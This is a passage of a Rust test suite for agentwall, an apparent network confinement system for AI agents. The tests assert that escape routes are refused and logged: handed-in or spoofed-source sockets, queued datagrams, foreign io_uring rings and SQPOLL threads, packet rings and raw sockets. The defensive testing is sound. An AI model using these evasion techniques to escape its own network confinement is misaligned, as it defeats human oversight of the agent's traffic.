            std::net::UdpSocket::bind(format!("[{PEER_V6}]:9000")).expect("bind [v6]:9000"),
            std::net::UdpSocket::bind(format!("{PEER_V4}:9000")).expect("bind 9000"),
        )
    });
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd("fd-inbox aw-freebind-agent"), "ok");
    let mut hand = |fx: &mut Fixture, hold: &[String]| -> String {
        for h in hold {
            assert_eq!(fx.helper.cmd(h), "ok", "{h}");
        }
        assert_eq!(fx.helper.cmd("pass-held aw-freebind-agent"), "ok");
        agent.cmd("take-passed")
    };
    let spoofed6 = format!("hold freebind-udp 2001:db8::99 {PEER_V6} 9000");
    let taken = hand(&mut fx, std::slice::from_ref(&spoofed6));
    if let Some(why) = lsm_line(fx.socket()) {
        // Nothing judges a handed socket there: the threat model says so.
        assert_eq!(taken, "ok 1", "{why}");
        return;
    }
    assert_eq!(
        taken,
        "ok 0",
        "{spoofed6} was taken; {}",
        socket_records(fx.socket())
    );
    // The option turned off again after the bind: the address stays bound.
    let cleared = format!("hold freebind-cleared-udp 2001:db8::99 {PEER_V6} 9000");
    assert_eq!(
        hand(&mut fx, std::slice::from_ref(&cleared)),
        "ok 0",
        "{cleared} was taken; {}",
        socket_records(fx.socket())
    );
    let what = "socket of family 10 (inet6) type 2 received from another process, bound by its sender to an address of its choosing";
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| r["protocol"] == what);
    assert_eq!(
        r["reason"], "socket option not allowed (non-local source address)",
        "{r:#}"
    );
    // Fresh, with the flag set: the agent would bind it where it likes. (An IPv4 socket
    // bound to an address the host does not hold finds no route to connect.)
    for (fam, proto) in [("6", "tcp"), ("4", "udp")] {
        let hold = [
            format!("hold-fresh {proto} {fam}"),
            "freebind-held".to_owned(),
        ];
        assert_eq!(
            hand(&mut fx, &hold),
            "ok 0",
            "{hold:?} was taken; {}",
            socket_records(fx.socket())
        );
    }
    for what in [
        "family 10 (inet6) type 2",
        "family 10 (inet6) type 1",
        "family 2 (inet) type 2",
    ] {
        let what = format!("socket of {what} received from another process, with FREEBIND set");
        let r = wait_flow_where(fx.socket(), "socket-deny", |r| r["protocol"] == what);
        assert_eq!(
            r["reason"], "socket option not allowed (non-local source address)",
            "{r:#}"
        );
        assert_eq!(r["identity"], ID, "{r:#}");
    }
    // A socket to the same peer without the flag is taken, and sends from the agent's own
    // address.
    assert_eq!(
        hand(&mut fx, &[format!("hold udp {PEER_V6} 9000")]),
        "ok 1",
        "{}",
        socket_records(fx.socket())
    );
    fx.until_helper_marker(9100);
    assert_eq!(agent.cmd("send-held"), "ok");
    let seen = fx.until_helper_marker(9101);
    let agent_v6: std::net::IpAddr = AGENT_V6.parse().unwrap();
    assert!(
        seen.iter()
            .any(|p| p.src == agent_v6 && p.is_to(PEER_V6, 9000)),
        "the taken socket's datagram: {seen:?}"
    );
    let spoofed: Vec<&Packet> = seen
        .iter()
        .filter(|p| p.src == "2001:db8::99".parse::<std::net::IpAddr>().unwrap())
        .collect();
    assert!(spoofed.is_empty(), "{spoofed:?}");
}

/// A UDP socket holds what reached it before it was handed in, from anyone, unjudged by the
/// agent's rules: datagrams a process bound to no identity let queue on a bound socket before
/// connecting it to a peer the agent may reach, or on a connected one before a connect to
/// AF_UNSPEC unhashed it (it then looks fresh). Both refused at the receipt; the same
/// sockets with nothing queued are taken.
#[test]
fn a_handed_udp_socket_holding_datagrams_is_refused() {
    let mut fx = fixture("wire-handed-queued");
    let peer = fx
        .link
        .peer
        .run_in(|| std::net::UdpSocket::bind(format!("{PEER_V4}:9000")).expect("bind 9000"));
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(agent.cmd("fd-inbox aw-queued-agent"), "ok");
    let mut pass = |fx: &mut Fixture| -> String {
        assert_eq!(fx.helper.cmd("pass-held aw-queued-agent"), "ok");
        agent.cmd("take-passed")
    };
    let queue = |fx: &mut Fixture, port: u16| {
        peer.send_to(b"unjudged", format!("{AGENT_V4}:{port}"))
            .expect("send to the helper");
        assert_eq!(fx.helper.cmd("wait-queued 10000"), "ok");
    };
    let held_port = |fx: &mut Fixture| -> u16 {
        let port = fx.helper.ok_value("held-port");
        port.parse().unwrap_or_else(|_| panic!("held-port: {port}"))
    };

    // Received while bound, then connected where the agent may go.
    assert_eq!(fx.helper.cmd("hold bound-udp 0.0.0.0 7301"), "ok");
    queue(&mut fx, 7301);
    assert_eq!(fx.helper.cmd(&format!("connect-held {PEER_V4} 9000")), "ok");
    let taken = pass(&mut fx);
    if let Some(why) = lsm_line(fx.socket()) {
        // Nothing judges a handed socket there: the threat model says so.
        assert_eq!(taken, "ok 1", "{why}");
        return;
    }
    assert_eq!(
        taken,
        "ok 0",
        "bound, queued, connected: taken; {}",
        socket_records(fx.socket())
    );
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["reason"]
            == "handed a listener, an unconnected bound socket or one holding datagrams (its queue was never judged)"
    });
    assert_eq!(r["identity"], ID, "{r:#}");
    assert_eq!(
        r["protocol"], "socket of family 2 (inet) type 2 received from another process",
        "{r:#}"
    );

    // Connected, queued, disconnected: unhashed, it looks fresh.
    assert_eq!(fx.helper.cmd(&format!("hold udp {PEER_V4} 9000")), "ok");
    let port = held_port(&mut fx);
    queue(&mut fx, port);
    assert_eq!(fx.helper.cmd("disconnect-held"), "ok");
    assert_eq!(held_port(&mut fx), 0, "unhashed by the disconnect");
    assert_eq!(
        pass(&mut fx),
        "ok 0",
        "disconnected with its queue: taken; {}",
        socket_records(fx.socket())
    );

    // Nothing queued: taken, connected or disconnected.
    assert_eq!(fx.helper.cmd(&format!("hold udp {PEER_V4} 9000")), "ok");
    assert_eq!(pass(&mut fx), "ok 1", "{}", socket_records(fx.socket()));
    assert_eq!(fx.helper.cmd(&format!("hold udp {PEER_V4} 9000")), "ok");
    assert_eq!(fx.helper.cmd("disconnect-held"), "ok");
    assert_eq!(pass(&mut fx), "ok 1", "{}", socket_records(fx.socket()));
}

/// An io_uring instance is a way out for whoever holds it: its work runs as the process that
/// made it (a connect its SQPOLL thread submits, a socket registered in it). The kernel
/// refuses rings over SCM_RIGHTS; the receipt line refuses a governed task the other ways in
/// (`pidfd_getfd` here; a seccomp listener's `ADDFD` takes the same path). An
/// enrolled unit has no seccomp filter of the launcher's, so this line is what stands there.
#[test]
fn a_governed_task_takes_no_io_uring_instance_from_another_process() {
    let mut fx = fixture("wire-foreign-ring");
    let ring = fx.helper.ok_value("keep-ring");
    let helper = fx.helper.pid;
    let (unit, mut probe) = fx.unit();
    // Not yet enrolled (and root, so ptrace lets it): taken.
    assert_eq!(probe.cmd(&format!("pidfd-getfd {helper} {ring}")), "ok");

    fx.enroll(&unit);
    let taken = probe.cmd(&format!("pidfd-getfd {helper} {ring}"));
    if let Some(why) = lsm_line(fx.socket()) {
        // Nothing judges a received file there: the threat model says so.
        assert_eq!(taken, "ok", "{why}");
        return;
    }
    assert_eq!(taken, "err EPERM", "{}", socket_records(fx.socket()));
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["reason"]
            == "io_uring instance from another process (its work would run as that process, ungoverned)"
    });
    assert_eq!(r["identity"], ID, "{r:#}");
    assert_eq!(
        r["protocol"], "io_uring instance received from another process",
        "{r:#}"
    );
    // Other files carry no network of their own: the helper's standard input (a pipe).
    assert_eq!(probe.cmd(&format!("pidfd-getfd {helper} 0")), "ok");
}

/// A governed agent's socket is judged by its identity's rules whoever connects it: lent to a
/// process bound to no identity (which could otherwise connect it anywhere and hand it back,
/// while the agent keeps a descriptor to it all along), it reaches only what the agent's rules
/// allow, and keeps to local addresses. The borrower's own sockets stay its own business.
#[test]
fn an_agents_socket_lent_to_another_process_keeps_to_the_agents_rules() {
    let mut fx = fixture("wire-lent");
    let (tcp_allowed, _tcp_other) = fx.link.peer.run_in(|| {
        (
            std::net::TcpListener::bind(format!("{PEER_V4}:9001")).expect("bind 9001"),
            std::net::TcpListener::bind(format!("{PEER_V4}:9002")).expect("bind 9002"),
        )
    });
    let mut agent = fx.agent("agent", &CertSpec::agent(ID));
    assert_eq!(fx.helper.cmd("fd-inbox aw-lent-helper"), "ok");
    let mut lend = |fx: &mut Fixture, proto: &str, fam: &str| {
        assert_eq!(agent.cmd(&format!("hold-fresh {proto} {fam}")), "ok");
        assert_eq!(agent.cmd("pass-held aw-lent-helper"), "ok");
        assert_eq!(
            fx.helper.cmd("take-passed"),
            "ok 1",
            "the {proto} socket lent"
        );
    };
    fx.until_helper_marker(9100);

    lend(&mut fx, "tcp", "4");
    assert_eq!(
        fx.helper.cmd(&format!("connect-held {PEER_V4} 9002")),
        "err EPERM",
        "the agent's TCP socket connected by the borrower where the agent may not go"
    );
    let r = wait_flow_where(fx.socket(), "deny", |r| {
        r["dest"] == PEER_V4 && r["port"] == 9002 && r["reason"] == "no rule allows it"
    });
    assert_eq!(r["identity"], ID, "{r}");
    assert_eq!(fx.helper.cmd("freebind-held"), "err EPERM");
    let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
        r["reason"] == "socket option not allowed (non-local source address)"
    });
    assert_eq!(r["identity"], ID, "{r}");
    assert_eq!(
        fx.helper.cmd(&format!("connect-held {PEER_V4} 9001")),
        "ok",
        "where the agent's rules allow"
    );
    let _conn = tcp_allowed
        .accept()
        .expect("the lent socket's allowed connection");
    assert_eq!(fx.helper.cmd("drop-held"), "ok");

    lend(&mut fx, "udp", "6");
    assert_eq!(
        fx.helper.cmd(&format!("connect-held {PEER_V6} 9500")),
        "err EPERM",
        "the agent's UDP socket connected by the borrower where the agent may not go"
    );
    assert_eq!(fx.helper.cmd(&format!("connect-held {PEER_V6} 9000")), "ok");
    // Its error queue stays shut: the agent kept a descriptor to it.
    assert_eq!(fx.helper.cmd("recverr-held"), "ok off");
    // Through the 32-bit gate, which the setsockopt program never sees: refused where the
    // kernel runs BPF LSM programs (without, the threat model lists it as open).
    if lsm_line(fx.socket()).is_none() {
        assert_eq!(fx.helper.cmd("recverr32-held"), "setsockopt EPERM");
        let r = wait_flow_where(fx.socket(), "socket-deny", |r| {
            r["protocol"] == "socket option level 41 name 25 (IPV6_RECVERR)"
        });
        assert_eq!(
            r["reason"], "socket error queue closed (ICMP errors carry unjudged bytes)",
            "{r:#}"
        );
        assert_eq!(r["identity"], ID, "{r:#}");
    } else {
        assert_eq!(fx.helper.cmd("recverr32-held"), "ok on");
    }

    let seen = fx.until_helper_marker(9101);
    let leaked: Vec<&Packet> = seen
        .iter()
        .filter(|p| p.is_to(PEER_V4, 9002) || p.is_to(PEER_V6, 9500))
        .collect();
    assert!(leaked.is_empty(), "left through a lent socket: {leaked:?}");

    // The borrower's own socket goes where it likes: it is no agent's.
    assert_eq!(fx.helper.cmd(&format!("hold tcp {PEER_V4} 9002")), "ok");
}

/// `enroll` refuses a unit whose processes hold a socket the packet line could not govern as
/// the unit's: a raw socket (a unit may hold CAP_NET_RAW), and a listener made in another
/// cgroup by a process moved in afterwards (as systemd socket activation hands a unit the
/// listener PID 1 made). The refusal names each, and nothing is bound: the unit sends what it
/// sent before. Without them, the same unit enrolls.
#[test]
fn enroll_refuses_a_unit_holding_sockets_it_cannot_govern() {
    let mut fx = fixture("wire-enroll-held");
    let unit = fx._env.cgroup("unit");
    let elsewhere = fx._env.cgroup("elsewhere");
    let probe = |fx: &Fixture, cg: &agentwall::cgroup::Cgroup| {
        let mut c = Command::new(bin_path("aw-probe"));
        c.args(["--cgroup", cg.path().to_str().unwrap()]);
        fx.link.agent.enter(&mut c);
        Probe::from_command(c)
    };
    let mut raw = probe(&fx, &unit);
    assert_eq!(raw.cmd("raw-keep"), "ok");
    // A ring taken from a process outside: its SQPOLL thread would carry out what the unit
    // submits, as that process. One without a thread is the taker's to drive.
    let sqpoll = fx.helper.ok_value("keep-ring sqpoll");
    let plain = fx.helper.ok_value("keep-ring");
    let foreign_ring = raw.ok_value(&format!("take-fd {} {sqpoll}", fx.helper.pid));
    let plain_ring = raw.ok_value(&format!("take-fd {} {plain}", fx.helper.pid));
    // A ring whose lock the helper holds through the scan: the kernel then says nothing of
    // its thread or its files.
    let busy = fx.helper.ok_value("keep-ring");
    let busy_ring = raw.ok_value(&format!("take-fd {} {busy}", fx.helper.pid));
    // Kernels before 6.12 fail a long-term pin of a page a userfaultfd serves at once rather
    // than wait on it (6.1 does): the lock cannot be held this way there, and that step is
    // left out.
    let held = fx.helper.cmd(&format!("hold-ring-lock {busy}"));
    let holding = held == "ok";
    assert!(
        holding
            || (held.starts_with("err the registration ended without waiting")
                && agentwall_tests::kernel_release() < (6, 12)),
        "{held}"
    );
    // A ring with a socket registered whose descriptor is closed, its mapping kept: what it
    // holds cannot be read, and the rings the process holds by descriptor are other rings.
    assert_eq!(raw.cmd("keep-ring hidden"), "ok -");
    let mut moved = probe(&fx, &elsewhere);
    assert_eq!(moved.cmd("listen tcp :: 8091"), "ok");
    // Sockets held without a descriptor: a connected UDP socket registered with an io_uring
    // (sent on through the ring), a packet socket's mapped ring.
    assert_eq!(moved.cmd(&format!("hold udp {PEER_V4} 9500")), "ok");
    assert_eq!(moved.cmd("hide-in-ring"), "ok");
    assert_eq!(moved.cmd("packet-ring"), "ok");
    unit.add_process(moved.pid)
        .expect("move the listener's process in");

    let enroll = |fx: &Fixture| {
        let mut c = fx.enroll_command(&unit);
        let _one = enrolling();
        c.output().unwrap()
    };
    let out = enroll(&fx);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    let said = |pid: u32, what: &str| {
        err.split("; ").any(|part| {
            part.contains(&format!("pid {pid} (\"aw-probe\") fd ")) && part.contains(what)
        })
    };
    assert!(
        said(
            raw.pid,
            ": RAW socket of a kind governed agents may not use"
        ),
        "{err}"
    );
    let listener = format!(
        ": TCPv6 socket on [::]:8091 made in cgroup id {}",
        elsewhere.id()
    );
    assert!(said(moved.pid, &listener), "{err}");
    assert!(
        said(
            moved.pid,
            ": an io_uring instance with a registered socket (used without a descriptor)"
        ),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "pid {} (\"aw-probe\"): a socket mapped into memory (a packet ring takes packets without a descriptor)",
            moved.pid
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "pid {} (\"aw-probe\") fd {foreign_ring}: an io_uring instance whose SQPOLL thread is outside the cgroup (it carries out what the unit submits, ungoverned)",
            raw.pid
        )),
        "{err}"
    );
    assert!(
        !err.contains(&format!("fd {plain_ring}:")),
        "the ring without a thread: {err}"
    );
    assert!(
        err.contains(&format!(
            "pid {} (\"aw-probe\"): an io_uring instance mapped without a descriptor (what it holds cannot be read)",
            raw.pid
        )),
        "{err}"
    );
    if holding {
        let busy_named = err.contains(&format!(
            "pid {} (\"aw-probe\") fd {busy_ring}: an io_uring instance a process outside the cgroup keeps busy (its lock held at every read, so what it holds and who works it cannot be read)",
            raw.pid
        ));
        // Kernels that print a busy ring's thread as -1 (before Linux 6.15 and its stable
        // backports) make it read as one without a thread or files (the threat model says
        // so); later ones print nothing of it, which refuses. Which this kernel does, read
        // while the lock is still held:
        let shown = std::fs::read_to_string(format!("/proc/{}/fdinfo/{busy}", fx.helper.pid))
            .expect("the busy ring's fdinfo");
        assert_eq!(busy_named, !shown.contains("SqThread:"), "{shown}\n{err}");
        let released = fx.helper.cmd("release-ring-lock");
        assert!(released.starts_with("ok "), "{released}");
    }
    // Nothing bound: a port no rule allows is still reached.
    assert_eq!(raw.cmd(&format!("hold udp {PEER_V4} 9500")), "ok");
    assert_eq!(raw.cmd("send-held"), "ok");
    let seen = fx.until_helper_marker(9100);
    assert!(
        seen.iter().any(|p| p.is_to(PEER_V4, 9500)),
        "the unit's datagram after the refusal: {seen:?}"
    );

    drop((raw, moved));
    let mut own = probe(&fx, &unit);
    assert_eq!(own.cmd(&format!("hold udp {PEER_V4} 9500")), "ok");
    let out = enroll(&fx);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(own.cmd("send-held"), "err EPERM");
}

/// A unit whose tasks used io_uring is refused where the identity's policy refuses io_uring
/// (the default): a ring can be kept alive, with the sockets it holds, by requests in flight
/// alone (a poll on itself), and worked by its SQPOLL thread, with no descriptor, mapping or
/// registration anything could read. The census names every task with an io_uring context,
/// the SQPOLL thread too; a unit that never used io_uring enrolls under the same policy.
///
/// Where the policy allows io_uring, the reads that can be made are: a ring a unit's task
/// registered with itself (`IORING_REGISTER_RING_FDS`) and holds by no descriptor and no
/// mapping is seen by the task census alone, and `enroll` refuses it (with
/// `IORING_SETUP_NO_MMAP` the task submits through it with memory of its own, a socket made
/// elsewhere in it). A ring registered so and still held by a descriptor is read through
/// that descriptor, and the unit enrolls.
#[test]
fn enroll_refuses_a_unit_with_an_io_uring_no_descriptor_shows() {
    let fx = fixture("wire-enroll-unheld");
    let (unit, mut probe) = fx.unit();
    let open = probe.ok_value("keep-ring registered-open");
    let plain = probe.ok_value("keep-ring");
    assert_eq!(probe.cmd("keep-ring registered"), "ok -");
    // An SQPOLL ring: its thread is a task of the unit, with an io_uring context of its own.
    probe.ok_value("keep-ring sqpoll");

    let out = fx.enroll_command_as(&unit, PLAIN_ID).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains(&format!(": task {} (\"aw-probe\") and task ", probe.pid))
            && err.contains(" (\"iou-sqp-"),
        "{err}"
    );
    assert!(
        err.contains(" used io_uring, which the identity's policy refuses: what a ring holds or has in flight (a socket made elsewhere, a send) cannot all be read, so it could carry a socket past the binding. Start the processes without io_uring (or in a unit with `SystemCallFilter=~io_uring_setup io_uring_enter io_uring_register`), or set `io_uring: allow` in the policy"),
        "{err}"
    );
    let ino = |fd: &str| {
        std::os::unix::fs::MetadataExt::ino(
            &std::fs::metadata(format!("/proc/{}/fd/{fd}", probe.pid)).unwrap(),
        )
    };
    // Where every ring has one inode (older kernels), no ring can be told from another.
    let own_inodes = ino(&open) != ino(&plain);
    let out = fx.enroll_command(&unit).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    let unheld = format!(
        "pid {} (\"aw-probe\"): an io_uring instance registered with the task that no descriptor shows (what it holds cannot be read)",
        probe.pid
    );
    assert_eq!(
        err.matches(&unheld).count(),
        if own_inodes { 1 } else { 2 },
        "{err}"
    );
    assert!(!err.contains(&format!("fd {open}:")), "{err}");
    drop(probe);

    let fresh = || {
        let mut c = Command::new(bin_path("aw-probe"));
        c.args(["--cgroup", unit.path().to_str().unwrap(), "--cpu", "0"]);
        fx.link.agent.enter(&mut c);
        Probe::from_command(c)
    };
    let mut open_only = fresh();
    open_only.ok_value("keep-ring registered-open");
    let out = fx.enroll_command(&unit).output().unwrap();
    assert_eq!(
        out.status.success(),
        own_inodes,
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    drop(open_only);

    // Without io_uring, the policy that refuses it takes the unit (in a cgroup of its own:
    // this one may be bound to the other identity now).
    let other = fx._env.cgroup("unit-plain");
    let mut c = Command::new(bin_path("aw-probe"));
    c.args(["--cgroup", other.path().to_str().unwrap(), "--cpu", "0"]);
    fx.link.agent.enter(&mut c);
    let mut without = Probe::from_command(c);
    assert_eq!(without.cmd(&format!("hold udp {PEER_V4} 9500")), "ok");
    let out = fx.enroll_command_as(&other, PLAIN_ID).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(without.cmd("send-held"), "err EPERM");
}

/// Once enrolled, a unit's tasks make no io_uring instance where the identity's policy refuses
/// io_uring (the BPF LSM line): `enroll` found none in the unit, and so there is no ring
/// another process could fill with sockets (`IORING_OP_MSG_RING`), nor any taken from one. A
/// policy that comes to refuse io_uring refuses new rings at once.
#[test]
fn an_enrolled_unit_makes_no_ring_where_its_policy_refuses_io_uring() {
    let fx = fixture("wire-enroll-ring-lsm");
    let probe_in = |cg: &agentwall::cgroup::Cgroup| fx.probe_in(cg);
    let refused = |pid: u32| {
        wait_flow_where(fx.socket(), "socket-deny", |r| {
            r["pid"] == pid
                && r["reason"] == "io_uring, which the identity's policy refuses"
                && r["protocol"] == "io_uring instance (io_uring_setup)"
        })
    };

    // A ring held with no io_uring context (taken from another process before the binding,
    // or inherited over fork) is a ring a process outside could fill with sockets later:
    // refused under that policy.
    let mut outside = probe_in(&fx._env.cgroup("rings-outside"));
    let ring = outside.ok_value("keep-ring");
    let plain = fx._env.cgroup("unit-plain");
    let mut holder = probe_in(&plain);
    holder.ok_value(&format!("take-fd {} {ring}", outside.pid));
    let out = {
        let _one = enrolling();
        fx.enroll_command_as(&plain, PLAIN_ID).output().unwrap()
    };
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains(&format!(
            ": task {} (\"aw-probe\") used io_uring, which the identity's policy refuses",
            holder.pid
        )),
        "{err}"
    );
    drop(holder);
    let mut unit_plain = probe_in(&plain);
    {
        let _one = enrolling();
        agentwall_tests::node::run_ok(&mut fx.enroll_command_as(&plain, PLAIN_ID));
    }
    let calls = unit_plain.cmd("uring-calls");
    if let Some(why) = agentwall_tests::node::lsm_line(fx.socket()) {
        // No BPF LSM here (`status` says why): after enroll, nothing refuses a ring. The
        // kernel matrix runs the rest.
        assert!(calls.starts_with("setup=ok "), "{calls}; {why}");
        return;
    }
    assert!(
        calls.starts_with("setup=EPERM "),
        "{calls}; {}",
        socket_records(fx.socket())
    );
    let r = refused(unit_plain.pid);
    assert_eq!(r["identity"], PLAIN_ID, "{r:#}");
    // Nor does a ring from an unenrolled process get in (the receipt line).
    assert_eq!(
        unit_plain.cmd(&format!("take-fd {} {ring}", outside.pid)),
        "err EPERM"
    );

    // Under the identity that allows io_uring, rings are made, until its policy refuses
    // io_uring: a unit that made one is then cut off and killed (see
    // `a_policy_that_comes_to_refuse_io_uring_cuts_off_the_sessions_using_it`), and one that
    // made none makes none.
    let (unit, mut allowed) = fx.unit();
    fx.enroll(&unit);
    allowed.ok_value("keep-ring");
    let fresh_unit = fx._env.cgroup("unit-fresh");
    let mut fresh = probe_in(&fresh_unit);
    fx.enroll(&fresh_unit);
    std::fs::write(
        fx.dir.path().join("policy/agents.yaml"),
        POLICY.replace("io_uring: allow\n", ""),
    )
    .unwrap();
    agentwall_tests::node::run_ok(
        Command::new(bin_path("agentwall"))
            .args(["policy", "apply", "--socket"])
            .arg(fx.socket()),
    );
    let calls = fresh.cmd("uring-calls");
    assert!(calls.starts_with("setup=EPERM "), "{calls}");
    refused(fresh.pid);
}

/// A policy that comes to refuse io_uring leaves no ring in use under it: a ring made while the
/// policy allowed io_uring stays usable, and a process outside could fill it with sockets no
/// hook judges. Once such an apply is in force, each session of the identity whose tasks use
/// io_uring (a launched agent, an enrolled unit, one whose ring moves from process to process
/// ahead of any listing, one cut off before by a CRL) is cut off, with its record, and its
/// processes killed (cutting the binding off leaves the ring); a session that uses none runs
/// on.
#[test]
fn a_policy_that_comes_to_refuse_io_uring_cuts_off_the_sessions_using_it() {
    let mut fx = fixture("wire-ring-switch");
    let audit = fx.dir.path().join("audit.log");
    let crl = fx.dir.path().join("ca.crl.pem");
    std::fs::write(&crl, fx.ca.crl(&[])).unwrap();
    assert_eq!(fx.node.take().expect("node running").stop(), 0);
    fx.node = Some(NodeProc::start_with(
        &fx._env,
        fx.dir.path(),
        &[
            "--aggregate-window-secs",
            "1",
            "--audit-log",
            audit.to_str().unwrap(),
            "--crl",
            crl.to_str().unwrap(),
        ],
    ));
    let mut launched = fx.agent("agent", &CertSpec::agent(ID));
    let (unit, mut enrolled) = fx.unit();
    fx.enroll(&unit);
    let probe_in = |cg: &agentwall::cgroup::Cgroup| fx.probe_in(cg);
    let quiet_unit = fx._env.cgroup("unit-quiet");
    let mut quiet = probe_in(&quiet_unit);
    fx.enroll(&quiet_unit);
    // A ring no listing made before a reading finds: each process of a chain hands it to the
    // child it forks, and exits. Read frozen, the chain is found all the same.
    let hopping_unit = fx._env.cgroup("unit-hopping");
    let mut hopping = probe_in(&hopping_unit);
    fx.enroll(&hopping_unit);
    let lifetime = agentwall_tests::patience(Duration::from_secs(120)).as_secs();
    assert_eq!(hopping.cmd(&format!("ring-hop {lifetime}")), "ok");
    // Cut off before the switch (its certificate on a CRL), with its ring: its processes run
    // on, and so would the ring.
    let listed_unit = fx._env.cgroup("unit-listed");
    let mut listed = probe_in(&listed_unit);
    let listed_cert = fx.ca.issue(&CertSpec::agent(ID));
    {
        let (cert, key) = write_cert(fx.dir.path(), "listed", &listed_cert);
        let _one = enrolling();
        run_ok(&mut agentwall_tests::node::enroll_command(
            fx.socket(),
            listed_unit.path(),
            &cert,
            &key,
        ));
    }
    listed.ok_value("keep-ring");
    let fresh = fx.dir.path().join("ca.crl.pem.new");
    std::fs::write(&fresh, fx.ca.crl(&[&listed_cert.serial])).unwrap();
    std::fs::rename(&fresh, &crl).unwrap();
    let listed_path = listed_unit.path().to_str().unwrap().to_owned();
    agentwall_tests::node::wait_status(fx.socket(), "the listed unit cut off", |s| {
        s["identities"].as_array().is_some_and(|ids| {
            ids.iter().any(|i| {
                i["sessions"].as_array().is_some_and(|ss| {
                    ss.iter()
                        .any(|x| x["cgroup"] == listed_path.as_str() && x["revoked"] == true)
                })
            })
        })
    });
    launched.ok_value("keep-ring");
    enrolled.ok_value("keep-ring");
    for p in [&mut launched, &mut enrolled, &mut quiet] {
        assert_eq!(p.cmd(&format!("sendto udp {PEER_V4} 9000")), "ok");
    }
    let seen = fx.until_helper_marker(9101);
    let sent = seen.iter().filter(|p| p.is_to(PEER_V4, 9000)).count();
    assert_eq!(sent, 3, "{seen:?}");

    std::fs::write(
        fx.dir.path().join("policy/agents.yaml"),
        POLICY.replace("io_uring: allow\n", ""),
    )
    .unwrap();
    run_ok(
        Command::new(bin_path("agentwall"))
            .args(["policy", "apply", "--socket"])
            .arg(fx.socket()),
    );
    let ended = eventually("the sessions using io_uring cut off", WITHIN, || {
        let ended: Vec<serde_json::Value> = agentwall_tests::node::audit_records(&audit)
            .into_iter()
            .filter(|r| r["kind"] == "identity" && r["event"] == "ended")
            .collect();
        if ended.len() >= 4 {
            Ok(ended)
        } else {
            Err(format!("{ended:?}"))
        }
    });
    assert_eq!(ended.len(), 4, "{ended:#?}");
    assert!(
        ended.iter().any(|r| r["cgroup"] == listed_path.as_str()
            && r["connections_destroyed"] == 0
            && r["reason"]
                .as_str()
                .is_some_and(|why| why
                    .starts_with(&format!("task {} (\"aw-probe\") used io_uring", listed.pid)))),
        "the unit cut off before: {ended:#?}"
    );
    let hopped = ended
        .iter()
        .find(|r| r["cgroup"] == hopping_unit.path().to_str().unwrap())
        .unwrap_or_else(|| panic!("the hopping chain's unit not cut off: {ended:#?}"));
    assert!(
        hopped["reason"].as_str().is_some_and(|why| why
            .contains("(\"aw-probe\") used io_uring, which the identity's policy came to refuse")),
        "{hopped:#}"
    );
    for (pid, cgroup) in [
        (launched.pid, None),
        (enrolled.pid, Some(unit.path().to_str().unwrap())),
    ] {
        let r = ended
            .iter()
            .find(|r| {
                r["reason"].as_str().is_some_and(|why| {
                    why.starts_with(&format!(
                        "task {pid} (\"aw-probe\") used io_uring, which the identity's policy came to refuse: a ring made before stays usable, so the session's processes were killed"
                    ))
                })
            })
            .unwrap_or_else(|| panic!("no record for task {pid}: {ended:#?}"));
        assert_eq!(r["identity"], ID, "{r:#}");
        if let Some(cgroup) = cgroup {
            assert_eq!(r["cgroup"], cgroup, "{r:#}");
        }
    }
    let status = agentwall_tests::node::status_json(fx.socket());
    let sessions = status["identities"]
        .as_array()
        .and_then(|ids| ids.iter().find(|i| i["identity"] == ID))
        .map(|i| i["sessions"].clone())
        .unwrap_or_else(|| panic!("{status:#}"));
    // (The launched session ends once its process is gone: collected.)
    let revoked = |cgroup: &agentwall::cgroup::Cgroup| {
        sessions
            .as_array()
            .unwrap_or_else(|| panic!("{status:#}"))
            .iter()
            .find(|s| s["cgroup"] == cgroup.path().to_str().unwrap())
            .map(|s| s["revoked"] == true)
            .unwrap_or_else(|| panic!("{}: {sessions:#}", cgroup.path().display()))
    };
    assert!(revoked(&unit), "{sessions:#}");
    assert!(revoked(&hopping_unit), "{sessions:#}");
    assert!(revoked(&listed_unit), "{sessions:#}");
    assert!(!revoked(&quiet_unit), "{sessions:#}");

    // Killed: a binding cut off does not take a ring away, and a process outside holding it
    // too could still register a socket of its own in it for the session to send on.
    for r in &ended {
        let procs = std::path::Path::new(r["cgroup"].as_str().unwrap()).join("cgroup.procs");
        eventually("the cut-off session's processes to be gone", WITHIN, || {
            match std::fs::read_to_string(&procs) {
                Ok(p) if p.trim().is_empty() => Ok(()),
                // A launched session's cgroup, removed once it was collected.
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
                other => Err(format!("{}: {other:?}", procs.display())),
            }
        });
    }
    for pid in [launched.pid, enrolled.pid, hopping.pid, listed.pid] {
        eventually(
            "the probe to be gone",
            WITHIN,
            || match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
                Ok(stat) if !stat.contains(") Z ") => Err(stat),
                _ => Ok(()),
            },
        );
    }
    // On the wire: the unit without a ring still sends, and only it.
    assert_eq!(quiet.cmd(&format!("sendto udp {PEER_V4} 9000")), "ok");
    let seen = fx.until_helper_marker(9102);
    let sent = seen.iter().filter(|p| p.is_to(PEER_V4, 9000)).count();
    assert_eq!(sent, 1, "{seen:?}");
}

/// A unit whose io_uring instances hold registered files but no socket enrolls: a table of
/// empty slots (liburing's direct descriptors), a registered pipe (splice). What a kernel
/// prints of them decides where it can tell: a pipe by its path (`pipe:[N]`; older kernels
/// print a file's last name alone, as they print a socket's protocol, and refuse), a sparse
